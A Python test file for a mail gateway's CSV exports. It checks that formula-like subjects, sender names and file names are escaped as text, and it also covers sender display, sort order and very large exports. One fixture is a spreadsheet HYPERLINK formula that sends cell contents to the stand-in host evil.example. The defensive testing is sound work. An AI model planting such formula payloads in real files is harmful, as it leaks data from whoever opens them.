"""Exports meant for spreadsheets: a subject, a sender's name or a file name that a spreadsheet
would run as a formula is written as text (a leading apostrophe), in the queue export, the audit
export (and the report's CSV); everything else is written as it is."""
from __future__ import annotations

import csv
import json
import re
import io
from datetime import timedelta
from email.message import EmailMessage
from pathlib import Path

from web_support import Site, site_fixture  # noqa: F401  (the `site` fixture)

from gateway.registry import LetterFilter, Scope
from gateway.report.spreadsheet import cell

HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?"&A2,"details")'
HOSTILE_FILE = "-2+3+cmd.csv"


def test_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    assert [cell(v) for v in ("=1+1", "+86 20 1234 5678", "-2+3", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1", "'+86 20 1234 5678", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert [cell(v) for v in ("-", "+", "", "Order 4711", "紧急：合同签署", " =1", -3, 0.5, None)] == [
        "-", "+", "", "Order 4711", "紧急：合同签署", " =1", -3, 0.5, None]


def test_a_hostile_subject_and_sender_are_text_in_every_export(tmp_path: Path) -> None:
    site = Site(tmp_path)
    try:
        site.add_people()
        message = EmailMessage()
        message["From"] = '"@SUM(1+1)" <alice@partner.example>'
        message["To"] = "sales@example.org"
        message["Subject"] = HOSTILE_SUBJECT
        message["Message-ID"] = "<hostile-1@partner.example>"
        message.set_content("Details attached.\n")
        message.add_attachment(b"1,2\n", maintype="text", subtype="csv", filename=HOSTILE_FILE)
        number = site.ingest("hostile", message.as_bytes())
        rita = site.sign_in("rita")
        exported = rita.get("/letters.csv", params={"queue": "all"})
        assert exported.status_code == 200
        [row] = [r for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
                 if r["number"] == number]
        assert (row["subject"], row["sender_name"]) == ("'" + HOSTILE_SUBJECT, "'@SUM(1+1)")
        assert row["sender_address"] == "alice@partner.example" and row["number"] == number

        # A download, whose audit row names the file.
        assert rita.get(f"/letters/{number}/attachments/0").status_code == 200
        audit = site.sign_in("audrey").get("/audit.csv", params={"actor": "rita"})
        assert audit.status_code == 200
        rows = list(csv.DictReader(io.StringIO(audit.content.decode("utf-8-sig"))))
        assert {r["subject"] for r in rows if r["letter"] == number and r["action"] == "download"} == {
            "'" + HOSTILE_FILE}

    finally:
        site.close()


def test_the_export_names_each_sender_as_the_queues_row_does(site: Site) -> None:
    """A fax from the drop folder, which has only a number, and a sender's domain in A-labels are
    exported as the queue shows them: the fax by its number (as text, never a formula), the domain
    as its owner writes it, the address as the letter gave it in a column of its own."""
    from conftest import make_message

    idn = site.ingest("idn", make_message(7, subject="IDN", sender="Zhang San <zhang@xn--fsqu00a.xn--fiqs8s>",
                                          to="sales@example.org"))
    rita = site.sign_in("rita")
    exported = rita.get("/letters.csv", params={"queue": "all"})
    rows = {r["number"]: r for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))}
    fax, mail = rows[site.letters["fax"]], rows[idn]
    assert (fax["sender_address"], mail["sender_address"]) == ("'+8620123456", "zhang@例子.中国")
    assert (fax["sender_address_as_given"], mail["sender_address_as_given"]) == (
        "'+8620123456", "zhang@xn--fsqu00a.xn--fiqs8s")
    assert mail["sender_name"] == "Zhang San"
    listing = rita.get("/letters?queue=all").text
    assert ">+8620123456</span>" in listing and ">zhang@<wbr>例子.中国</span>" in listing


def test_the_json_rows_name_each_sender_as_the_queues_row_does(site: Site) -> None:
    """`letters list --json` and `letters search --json` name the sender as the register's row
    does; `letters show --json` keeps every field as stored."""
    from conftest import make_message

    idn = site.ingest("idn", make_message(7, subject="IDN order", sender="Zhang San <zhang@xn--fsqu00a.xn--fiqs8s>",
                                          to="sales@example.org"))
    rows = {r["number"]: r for r in site.gateway.list_json()}
    fax, mail = rows[site.letters["fax"]], rows[idn]
    assert (fax["sender_address"], mail["sender_address"]) == ("+8620123456", "zhang@例子.中国")
    assert (fax["sender_address_as_given"], mail["sender_address_as_given"]) == (
        "+8620123456", "zhang@xn--fsqu00a.xn--fiqs8s")
    found = json.loads(site.gateway.run("letters", "search", "IDN", "--json").stdout)["letters"]
    assert [(r["number"], r["sender_address"]) for r in found] == [(idn, "zhang@例子.中国")]
    stored = site.gateway.show_json(site.letters["fax"])
    assert stored["sender_address"] == "" and "sender_address_as_given" not in stored


def test_the_export_lists_the_letters_in_the_order_the_queue_shows_them(site: Site) -> None:
    """The queue's "Export CSV" keeps its sort: sorted by number, the rows come oldest number first."""
    rita = site.sign_in("rita")
    for sort in ("number", "-number", "deadline"):
        page = rita.get("/letters", params={"queue": "all", "sort": sort}).text
        shown = list(dict.fromkeys(re.findall(r'href="/letters/(\d{4}-\d{6})"', page)))
        link = re.search(r'<a class="button small" href="([^"]+)" hx-boost="false">', page)
        assert link, "no export link"
        exported = rita.get(link.group(1).replace("&amp;", "&"))
        numbers = [r["number"] for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))]
        assert len(numbers) == len(shown) > 2 and numbers == shown, sort


def test_the_queue_export_holds_every_row_however_many(site: Site) -> None:
    """Past ten thousand letters too: every one of the queue's rows, in its order, none dropped,
    and the audit row counts them all."""
    from sqlalchemy import insert

    from gateway.registry.models import Letter

    template = site.registry.letter(site.letters["business"])
    assert template is not None
    copied = {c.key: getattr(template, c.key) for c in Letter.__table__.columns if c.key != "id"}
    many = 10_050
    with site.registry.write() as conn:
        conn.execute(insert(Letter), [{**copied, "number": f"2025-{n:06d}", "series": "2025", "seq": n,
                                       "raw_sha256": f"{n:064x}", "subject": f"Order {n}",
                                       "received_at": template.received_at - timedelta(minutes=n)}
                                      for n in range(1, many + 1)])
    rita = site.sign_in("rita")
    exported = rita.get("/letters.csv", params={"queue": "all", "sort": "-received"})
    assert exported.status_code == 200 and exported.content.startswith(b"\xef\xbb\xbf")
    numbers = [r["number"] for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))]
    total = site.registry.letters_count(Scope(everything=True), LetterFilter())
    assert len(numbers) == len(set(numbers)) == total > many
    assert numbers[-many:] == [f"2025-{n:06d}" for n in range(1, many + 1)]  # the oldest last, in order
    [audit] = [r for r in site.access.audit(site.people.principal("audrey"), actor="rita")  # type: ignore[arg-type]
               if r.action == "export"]
    assert audit.details["rows"] == total


def test_the_audit_export_holds_every_row_however_many(site: Site) -> None:
    """Past a hundred thousand rows too, newest first, none dropped; the export's own row is
    recorded, not among those it holds."""
    from datetime import datetime, timezone

    from sqlalchemy import insert

    from gateway.registry.models import AuditRow

    many = 100_050
    start = datetime(2026, 1, 1, tzinfo=timezone.utc)
    with site.registry.write() as conn:
        conn.execute(insert(AuditRow), [{"at": start + timedelta(seconds=n // 2), "actor": "sam", "action": "read",
                                         "letter_id": None, "subject": f"row {n}", "address": "", "details": {}}
                                        for n in range(many)])
    audrey = site.sign_in("audrey")
    exported = audrey.get("/audit.csv", params={"actor": "sam"})
    assert exported.status_code == 200 and exported.content.startswith(b"\xef\xbb\xbf")
    subjects = [r["subject"] for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))]
    assert subjects == [f"row {n}" for n in range(many - 1, -1, -1)]  # two rows a second: by time, then id
    assert [r.action for r in site.access.audit(site.people.principal("audrey"),  # type: ignore[arg-type]
                                                actor="audrey")][:1] == ["audit-export"]

